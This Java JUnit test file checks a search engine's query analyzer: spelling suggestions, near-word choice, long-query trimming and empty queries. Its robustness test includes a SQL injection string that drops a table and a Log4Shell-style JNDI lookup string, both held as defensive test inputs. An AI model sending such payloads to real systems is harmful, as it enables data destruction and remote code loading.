package parley.search.query;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import parley.search.IndexFixture;
import parley.search.PassageSearcher;
import parley.search.TopPassageIds;
import parley.search.index.SearchFilter;
import parley.search.query.QueryTerm.Standing;

class QueryAnalyzerTest {
  @TempDir Path folder;

  @Test
  void comparesOnlyUnseenWordsLoosely() throws IOException {
    try (PassageSearcher index =
        new IndexFixture()
            .article("a", "One", "t", "The treaty held.", "The treats were sweet.")
            .article("b", "Two", "t", "Negotiations failed.", "Resolution 2202 passed.")
            .build(folder)) {
      assertThat(TopPassageIds.of(index, "treats")).containsExactly("a-1");
      assertThat(TopPassageIds.of(index, "negociations")).containsExactly("b-0");
      assertThat(TopPassageIds.of(index, "resolution 2022")).containsExactly("b-1");
      AnalyzedQuery question = index.prepare("Negociations, 2022");
      assertThat(question.words().getFirst().standing()).isEqualTo(Standing.MISSPELT);
      assertThat(question.words().get(1).standing()).isEqualTo(Standing.UNKNOWN);
      assertThat(question.didYouMean()).contains("Negotiations, 2022");
      assertThat(index.prepare("treats").didYouMean()).isEmpty();
    }
  }

  @Test
  void meansTheMoreFrequentOfTheNearWords() throws IOException {
    try (PassageSearcher index =
        new IndexFixture()
            .article("a", "One", "t", "Putin spoke.", "Putin left.", "Putting it off.")
            .build(folder)) {
      assertThat(index.prepare("puttin").didYouMean()).contains("putin");
    }
  }

  static Stream<String> oddities() {
    return Stream.of(
        "title:foo AND (bar OR \"baz\" -qux) ~2 ^4 [a TO b] {x} /re.*gex/ \\",
        "talks*",
        "*?*?*?",
        "\u0000\u0007\u202Etalks\uFEFF",
        "\uD83D talks \uDE00",
        "talks ".repeat(200_000),
        "a".repeat(1_000_000),
        "🕊🕊🕊 talks",
        "переговоры في محادثات 会談 talks",
        "'; DROP TABLE passages; --",
        "${jndi:ldap://example.org/a} talks");
  }

  @ParameterizedTest
  @MethodSource("oddities")
  void takesWhateverIsTyped(String typed) throws IOException {
    try (PassageSearcher index =
        new IndexFixture().article("a", "One", "t", "The talks.").build(folder)) {
      AnalyzedQuery question = index.prepare(typed);
      index.search(question, SearchFilter.ALL, 10);
      index.near(question, Optional.empty(), 5);
      index.complete(typed, Optional.empty(), 5);

      assertThat(question.words()).hasSizeLessThanOrEqualTo(AnalyzedQuery.MOST_WORDS);
      if (typed.contains("talks ") || typed.contains(" talks")) {
        assertThat(TopPassageIds.of(index, typed)).containsExactly("a-0");
      }
    }
  }

  @Test
  void usesTheRarestWordsOfALongQuestion() throws IOException {
    IndexFixture fixture = new IndexFixture();
    StringBuilder question = new StringBuilder();
    for (int i = 0; i < 100; i++) {
      fixture.article("a" + i, "T", "t", "common" + i, "common" + i);
      question.append("common").append(i).append(' ');
    }
    fixture.article("rare", "T", "t", "needle");
    try (PassageSearcher index = fixture.build(folder)) {
      AnalyzedQuery prepared = index.prepare(question + " needle");

      assertThat(prepared.words()).hasSize(AnalyzedQuery.MOST_WORDS);
      assertThat(prepared.words().getLast().term()).isEqualTo("needl");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "   ", "?!", "the of and", "What is it?", "🕊"})
  void findsNoWordsInAnEmptyQuestion(String typed) throws IOException {
    try (PassageSearcher index =
        new IndexFixture().article("a", "One", "t", "The talks.").build(folder)) {
      assertThat(index.prepare(typed).words()).isEmpty();
      assertThat(TopPassageIds.of(index, typed)).isEmpty();
    }
  }
}
